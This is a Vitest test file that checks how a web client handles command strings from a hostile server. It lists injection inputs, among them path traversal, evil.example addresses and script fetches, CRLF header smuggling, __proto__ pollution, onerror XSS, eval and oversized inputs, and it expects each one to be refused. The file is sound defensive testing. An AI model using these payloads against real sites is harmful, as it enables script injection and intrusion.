// @vitest-environment happy-dom
import { commandErrors } from '@trebol/shared/contract'
import { describe, expect, test } from 'vitest'
import { openPageAtHostileServer, type Seen, untouched } from './page-at-hostile-server.tsx'

const page = openPageAtHostileServer()

const wrongFormat = refused(commandErrors.format)
const noJson = refused(commandErrors.json)
const unknown = { reports: ['probe.js: an unknown command'] }
const calls = (...names: string[]): Partial<Seen> => ({ requests: ['probe', ...names] })
const shown = (visible: boolean) => ({ visible, text: null, options: null, attributes: {} })

type Row = [title: string, js: unknown, change: Partial<Seen>]

const rows: Row[] = [
  ['E14 an empty text holds no command', '', {}],
  ['E14 semicolons alone hold no command', ';;;', {}],
  ['E14 blanks and semicolons hold no command', ' ; \n;\t', {}],
  ['E15 a number is skipped', 5, { reports: ['probe.js: not a text'] }],
  ['E15 an object is skipped', {}, { reports: ['probe.js: not a text'] }],
  ['E15 a list is skipped', ['api("x",{})'], { reports: ['probe.js: not a text'] }],
  ['E15 null is nothing', null, {}],
  ['E16 an api is called by name', 'api("getGames",{})', calls('getGames')],
  ['E16 an api without an object is called with an empty one', "callApi('getGames')", calls('getGames')],
  ['E18 keys without quotes are no JSON', 'api("x",{a:1})', noJson],
  ['E18 single quotes are no JSON', "api('x',{'a':1})", noJson],
  ['E18 a comma at the end is no JSON', 'api("x",{"a":1,})', noJson],
  ['E18 code in the place of a value is no JSON', 'api("x",{"a":alert(1)})', noJson],
  ['E19 a call that never closes', 'api("x",{"a":1}', wrongFormat],
  ['E19 an object that never closes', 'api("x",{"a":1)', wrongFormat],
  ['E19 a quote that never closes', 'api("x,{})', wrongFormat],
  ['E20 a list in the place of the object', 'api("x",[1])', wrongFormat],
  ['E20 a number in the place of the object', 'api("x",5)', wrongFormat],
  ['E20 null in the place of the object', 'api("x",null)', wrongFormat],
  ['E20 a text in the place of the object', 'api("x","{}")', wrongFormat],
  ['E20 more than name and object', 'api("x",{},{})', noJson],
  ['E21 no name', 'api()', wrongFormat],
  ['E21 an empty name', 'api("")', wrongFormat],
  ['E21 an object in the place of the name', 'api({})', wrongFormat],
  ['E22 a name that climbs out of the API', 'api("../admin",{})', wrongFormat],
  ['E22 a name that climbs out in disguise', 'api("%2e%2e/admin",{})', wrongFormat],
  ['E22 a name with a slash', 'api("a/b",{})', wrongFormat],
  ['E22 a name that is two dots', 'api("..",{})', wrongFormat],
  ['E23 a foreign address', 'api("http://evil.example/x",{})', wrongFormat],
  ['E23 a foreign address without scheme', 'api("//evil.example",{})', wrongFormat],
  ['E23 a foreign address with backslashes', 'api("\\\\\\\\evil.example",{})', wrongFormat],
  ['E23 a foreign host as user info', 'api("@evil.example",{})', wrongFormat],
  ['E24 a name with a query', 'api("login?x=1",{})', wrongFormat],
  ['E24 a name with a fragment', 'api("login#x",{})', wrongFormat],
  ['E24 a name with a line break', 'api("login\\r\\nX-Evil: 1",{})', wrongFormat],
  ['E24 a name that is too long', `api("${'a'.repeat(65)}",{})`, wrongFormat],
  ['E25 the name __proto__', 'api("__proto__",{})', wrongFormat],
  ['E25 the name constructor is a plain name', 'api("constructor",{})', calls('constructor')],
  ['E25 the name toString is a plain name', 'api("toString",{})', calls('toString')],
  ['E25 the name hasOwnProperty is a plain name', 'api("hasOwnProperty",{})', calls('hasOwnProperty')],
  ['E26 a payload with __proto__', 'api("x",{"__proto__":{"admin":true}})', wrongFormat],
  ['E26 a payload with constructor, deep inside', 'api("x",{"a":[{"constructor":1}]})', wrongFormat],
  ['E26 a payload with prototype', 'api("x",{"prototype":{}})', wrongFormat],
  ['E26 a payload with __proto__ in disguise', 'api("x",{"__\\u0070roto__":1})', wrongFormat],
  ['E26 a payload that is nested too deep', `api("x",{"a":${'['.repeat(40)}${']'.repeat(40)}})`, wrongFormat],
  ['E27 sixty-five commands', 'show("#home-explore");'.repeat(65), tooMuch('too many commands')],
  ['E27 a text of one sign more than 64 KiB', ';'.repeat(65_537), tooMuch('too long')],
  [
    'E27 sixty-four commands are allowed',
    'show("#home-explore");'.repeat(64),
    { regions: { '#home-explore': shown(true) } },
  ],
  ['E28 the server may have the session ended', 'api("logout",{})', calls('logout')],
  ['E30 a payload that speaks of a cookie', 'api("note",{"t":"removeCookie"})', calls('note')],
  [
    'E32 parts are shown and hidden',
    '$("#home-lead").show();$(".nav-entry").hide()',
    { regions: { '#home-lead': shown(true), '.nav-entry': shown(false) } },
  ],
  [
    'E32 the short spelling does the same',
    "show('#home-explore'); hide('#home-sports')",
    { regions: { '#home-explore': shown(true), '#home-sports': shown(false) } },
  ],
  [
    'E32 a part that the page does not have',
    '$("#nowhere").hide()',
    { reports: ['#nowhere: is not in docs/server-regions.md'] },
  ],
  ['E33 a selector that smuggles an image', '$("img[src=x onerror=alert(1)]").show()', wrongFormat],
  ['E33 a selector of two', '$("#a, body").hide()', wrongFormat],
  ['E33 a selector of a whole element', '$("body").hide()', wrongFormat],
  ['E33 a selector that is markup', '$("<img src=x onerror=alert(1)>").show()', wrongFormat],
  ['E33 a selector that climbs', '$("#home-explore").parent().hide()', unknown],
  ['E34 alert is not known here', 'alert(1)', unknown],
  ['E34 eval is not known here', 'eval("alert(1)")', unknown],
  ['E34 an assignment is not known here', 'location="https://evil.example"', unknown],
  ['E34 an import is not known here', 'import("https://evil.example/x.js")', unknown],
  ['E34 a template is not known here', '`x`', unknown],
  ['E34 a function is not known here', '(function(){alert(1)})()', unknown],
  ['E34 another verb of jQuery is not known here', '$("#home-explore").html("<img src=x onerror=alert(1)>")', unknown],
  ['E34 getting a script is not known here', '$.getScript("https://evil.example/x.js")', unknown],
  ['E35 an unknown verb does not stop the others', 'api("a",{});alert(1)', { ...calls('a'), ...unknown }],
  ['E35 one malformed command stops them all', 'api("a",{});$("#home-sports").show();api("c"', wrongFormat],
  [
    'E36 a line separator is text',
    'show("#home-explore")\u2028;hide("#home-sports")',
    { regions: { '#home-explore': shown(true), '#home-sports': shown(false) } },
  ],
  ['E36 a NUL in a name', 'api("x\u0000",{})', wrongFormat],
  ['E36 a mark of right-to-left writing in a name', 'api("x\u202egetBalance",{})', wrongFormat],
  ['E36 an emoji for a command', '🎰', unknown],
  ['E36 half an emoji for a command', '\ud83c', unknown],
  ['E37 sixty thousand parentheses', `api("a"${'('.repeat(60_000)}`, wrongFormat],
  ['E37 sixty thousand quotes', `api(${'"'.repeat(60_001)}`, wrongFormat],
  ['E37 thirty thousand lists in a payload', `api("a",{"x":${'['.repeat(30_000)}${']'.repeat(30_000)}})`, wrongFormat],
]

describe('the commands of an answer [R-10-28]', () => {
  test.each(rows)('%s', async (_, js, change) => {
    expect(await page.obeys({ js })).toEqual({ ...untouched, ...change })
  })

  test.each<[string, string, unknown]>([
    ['E17 a semicolon in a text separates nothing', 'api("x",{"a":"b;c"})', { a: 'b;c' }],
    ['E17 brackets in a text close nothing', 'api("x",{"a":"}){;\\"("})', { a: '}){;"(' }],
    ['E36 any writing travels unharmed', 'api("x",{"a":"\u2028\u0130🎰\u202eñ"})', { a: '\u2028\u0130🎰\u202eñ' }],
    ['E36 half a character travels as it is', 'api("x",{"a":"\ud83c"})', { a: '\ud83c' }],
  ])('%s', async (_, js, payload) => {
    await page.obeys({ js })
    expect(page.server.requests()[1]).toEqual({ name: 'x', bearer: null, body: payload })
  })

  test('E16 the balances are asked for once and shown', async () => {
    const jwt = await page.logsIn()
    expect(await page.obeys({ js: 'api("getBalance",{})' })).toMatchObject(calls('getBalance'))
    expect(page.server.requests()[1]).toEqual({ name: 'getBalance', bearer: jwt, body: null })
  })

  test('E38 an answer that asks for itself for ever comes to an end', async () => {
    const again = { result: true, response: { js: 'api("again",{})' } }
    page.server.answer('again', again)
    const { requests, reports } = await page.receives(again)
    expect(requests).toEqual(['probe', 'again', 'again', 'again'])
    expect(reports).toEqual(['again: too many calls follow from one answer'])
  })

  test('E38 answers that each ask for many more cause ten calls in all', async () => {
    const again = { result: true, response: { js: 'api("again",{});'.repeat(64) } }
    page.server.answer('again', again)
    const { requests } = await page.receives(again)
    expect(requests).toEqual(['probe', ...Array.from({ length: 10 }, () => 'again')])
  })

  test('E38 answers that each ask for many more are reported once', async () => {
    const again = { result: true, response: { js: 'api("again",{});'.repeat(64) } }
    page.server.answer('again', again)
    expect((await page.receives(again)).reports).toEqual(['again: too many calls follow from one answer'])
  })

  test('E38 a chain that goes too deep takes no call from the answers beside it, however late they come', async () => {
    page.server.answer('again', { result: true, response: { js: 'api("again",{})' } })
    const release = page.server.hold('late', { result: true, response: { js: 'api("x",{});api("x",{})' } })
    const { requests, reports } = await page.receives({
      result: true,
      response: { js: 'api("again",{});api("late",{})' },
    })
    expect(requests.toSorted()).toEqual(['again', 'again', 'again', 'late', 'probe'])
    expect(reports).toEqual(['again: too many calls follow from one answer'])
    await page.does(release)
    expect(page.seen().requests.filter((name) => name === 'x')).toHaveLength(2)
  })

  test('E38 balances that ask for balances come to an end', async () => {
    await page.logsIn()
    page.server.answer('getBalance', { result: true, response: { js: 'api("getBalance",{})', return: [] } })
    const { requests, reports } = await page.obeys({ js: 'api("getBalance",{})' })
    expect(requests).toEqual(['probe', 'getBalance'])
    expect(reports).toEqual(['getBalance: not to be asked for in an answer to getBalance'])
  })

  test('E38 balances that ask for a call that asks for balances come to an end', async () => {
    await page.logsIn()
    page.server.answer('getBalance', { result: true, response: { js: 'api("x",{})', return: [] } })
    page.server.answer('x', { result: true, response: { js: 'api("getBalance",{})' } })
    expect((await page.obeys({ js: 'api("x",{})' })).requests).toEqual(['probe', 'x', 'getBalance'])
  })
})

function refused(text: string): Partial<Seen> {
  return { messages: [`error: ${text}`], reports: [`probe.js: ${text}`] }
}

function tooMuch(why: string): Partial<Seen> {
  return { messages: [`error: ${commandErrors.format}`], reports: [`probe.js: ${why}`] }
}
